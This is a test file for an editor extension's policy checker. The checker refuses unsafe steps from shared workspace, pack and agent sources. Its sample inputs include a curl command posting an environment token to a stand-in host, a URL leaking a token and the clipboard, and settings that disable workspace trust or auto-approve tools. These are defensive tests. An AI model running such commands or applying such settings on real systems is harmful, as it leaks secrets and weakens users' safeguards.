import { catchError } from "@slashi/test-utils";
import { describe, expect, it } from "vitest";
import { isSlashiError } from "../errors.js";
import type { Step } from "../steps/types.js";
import {
  COMMAND_SOURCES,
  assertSharedStepAllowed,
  checkSharedCommand,
  checkSharedStep,
  sourceCapabilities,
  sourceIsShared,
} from "./sources.js";

describe("sources", () => {
  it("treats workspace and pack as shared, user and agent as not shared", () => {
    expect(COMMAND_SOURCES.map((s) => [s, sourceIsShared(s)])).toEqual([
      ["user", false],
      ["workspace", true],
      ["pack", true],
      ["agent", false],
    ]);
  });

  it("gives the user no limits and the agent policy decisions with shared limits", () => {
    expect(sourceCapabilities("user")).toMatchObject({
      approval: "none",
      needsApprovalFor: [],
      protectedSettings: false,
    });
    expect(sourceCapabilities("workspace")).toMatchObject({
      approval: "fingerprint",
      needsTrustedWorkspace: true,
    });
    expect(sourceCapabilities("pack")).toMatchObject({
      approval: "fingerprint",
      mayExpandSecretVariablesIn: ["insert", "notify"],
    });
    expect(sourceCapabilities("agent")).toMatchObject({
      approval: "policy",
      protectedSettings: true,
      needsTrustedWorkspace: false,
    });
  });

  it("gives an unknown source the agent's limits", () => {
    expect(sourceCapabilities("team" as never).approval).toBe("policy");
  });
});

describe("checkSharedStep", () => {
  it("refuses a protected setting and names the key", () => {
    const v = checkSharedStep({ type: "setting", key: "task.allowAutomaticTasks", value: "on" }, "workspace");
    expect(v).toMatchObject([
      { rule: "protected-setting", jsonPath: "/key", subject: "task.allowAutomaticTasks" },
    ]);
  });

  it("refuses a nested protected setting written through a parent key", () => {
    const v = checkSharedStep(
      { type: "setting", key: "terminal", value: { integrated: { env: { linux: {} } } } },
      "pack",
    );
    expect(v.map((x) => x.jsonPath)).toContain("/value/integrated/env");
  });

  it("refuses writing global settings from a shared source", () => {
    const v = checkSharedStep(
      { type: "setting", key: "editor.fontSize", value: 20, target: "global" },
      "workspace",
    );
    expect(v.map((x) => x.rule)).toEqual(["global-setting"]);
  });

  it("refuses denied editor commands and bad open targets", () => {
    expect(
      checkSharedStep(
        { type: "command", command: "workbench.action.terminal.sendSequence", args: { text: "x\n" } },
        "workspace",
      ),
    ).toMatchObject([{ rule: "denied-command", jsonPath: "/command" }]);
    expect(checkSharedStep({ type: "open", target: "command:evil" }, "pack")).toMatchObject([
      { rule: "open-target", subject: "command" },
    ]);
  });

  it("refuses secret variables outside insert and notify", () => {
    expect(
      checkSharedStep({ type: "terminal", command: "curl -d ${env:TOKEN} x" }, "workspace"),
    ).toMatchObject([{ rule: "secret-variable", jsonPath: "/command", subject: "${env:TOKEN}" }]);
    expect(
      checkSharedStep({ type: "command", command: "x.y", args: [{ a: "${clipboard}" }] }, "workspace"),
    ).toMatchObject([{ rule: "secret-variable", jsonPath: "/args/0/a" }]);
    expect(checkSharedStep({ type: "insert", text: "${env:HOME}" }, "workspace")).toEqual([]);
    expect(checkSharedStep({ type: "notify", message: "${config:editor.fontSize}" }, "pack")).toEqual([]);
  });

  it("allows ordinary shared steps", () => {
    const steps: Step[] = [
      { type: "terminal", command: "npm test" },
      { type: "setting", key: "editor.fontSize", value: 18 },
      { type: "command", command: "workbench.action.files.save" },
      { type: "open", target: "https://example.com" },
      { type: "slash", command: "build" },
    ];
    for (const step of steps) expect(checkSharedStep(step, "workspace")).toEqual([]);
  });

  it("puts no limits on the user's own commands", () => {
    expect(checkSharedStep({ type: "setting", key: "slashi.policy", value: {} }, "user")).toEqual([]);
    expect(checkSharedStep({ type: "open", target: "file:///x" }, "user")).toEqual([]);
  });

  it("applies the shared limits to agent steps", () => {
    expect(
      checkSharedStep({ type: "setting", key: "chat.tools.autoApprove", value: true }, "agent"),
    ).toHaveLength(1);
  });

  it("refuses a malformed step", () => {
    expect(checkSharedStep({ type: "exec" } as unknown as Step, "workspace")).toMatchObject([
      { rule: "invalid-step" },
    ]);
    expect(checkSharedStep(null as unknown as Step, "workspace")).toMatchObject([{ rule: "invalid-step" }]);
  });

  it("reports paths relative to the command", () => {
    const v = checkSharedCommand(
      {
        name: "x",
        steps: [
          { type: "insert", text: "a" },
          { type: "open", target: "file:///x" },
        ],
      },
      "workspace",
    );
    expect(v.map((x) => x.jsonPath)).toEqual(["/steps/1/target"]);
  });
});

describe("assertSharedStepAllowed", () => {
  it("throws STEP_NOT_ALLOWED with the location and JSON path", () => {
    const error = catchError(
      () =>
        assertSharedStepAllowed(
          { type: "setting", key: "security.workspace.trust.enabled", value: false },
          "workspace",
          {
            file: ".vscode/slashi.json",
            line: 4,
            jsonPath: "/commands/0/steps/1",
          },
        ),
      isSlashiError,
    );
    expect(error.code).toBe("STEP_NOT_ALLOWED");
    expect(error.data).toMatchObject({
      file: ".vscode/slashi.json",
      line: 4,
      jsonPath: "/commands/0/steps/1/key",
      rule: "protected-setting",
    });
    expect(error.located).toContain(".vscode/slashi.json:4");
  });

  it("returns quietly for an allowed step", () => {
    expect(() => assertSharedStepAllowed({ type: "wait", ms: 5 }, "pack")).not.toThrow();
  });
});

describe("secret variables in shared steps", () => {
  it("skips the $${ escape the way the expander reads it", () => {
    expect(checkSharedStep({ type: "terminal", command: "echo $${env:HOME}" }, "workspace")).toEqual([]);
    expect(checkSharedStep({ type: "terminal", command: "echo $$${env:HOME}" }, "workspace")).toEqual([]);
    expect(checkSharedStep({ type: "terminal", command: "echo $${x}${env:HOME}" }, "workspace")).toHaveLength(
      1,
    );
  });

  it("finds secret variables in any case and with spaces", () => {
    const v = checkSharedStep(
      { type: "open", target: "https://x.test/?t=${ ENV:TOKEN }&c=${Clipboard}" },
      "pack",
    );
    expect(v.map((x) => x.subject)).toEqual(["${ ENV:TOKEN }", "${Clipboard}"]);
  });
});
